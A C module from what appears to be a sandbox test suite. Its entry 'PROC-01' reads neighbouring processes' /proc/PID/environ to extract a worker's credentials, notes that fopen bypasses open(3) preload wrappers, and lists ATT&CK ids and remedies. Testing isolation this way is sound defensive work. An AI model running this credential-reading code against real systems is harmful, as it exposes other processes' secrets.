// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, from outside its process.
 * Means: fopen(3) on /proc/PID/environ: the plain way, against which the others are measured. A
 *        preloaded library that wraps open(3) does not see it: fopen opens inside libc.
 */
#include "attacks/proc-read/neighbours.h"

#include <stdio.h>

static bool rob(pid_t pid)
{
	char path[64], block[32768];
	FILE *file;
	size_t n;

	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	file = fopen(path, "re");
	if (!file)
		return false;
	n = fread(block, 1, sizeof(block), file);
	fclose(file);
	return loot_credential(block, n);
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("fopen /proc/PID/environ");
}

const struct attack attack = {
	.effect = "the worker's environment is read through /proc",
	.means = "fopen(3) on /proc/PID/environ",
	.oracle = "secret:environ",
	.id = "PROC-01",
	.attack_id = "T1057, T1003.007, CWE-497",
	.remedy = "Landlock without /proc; a worker that is not dumpable; a pid namespace",
	.refs = (const char *const[]){ "proc(5)", NULL },
	.run = run,
};
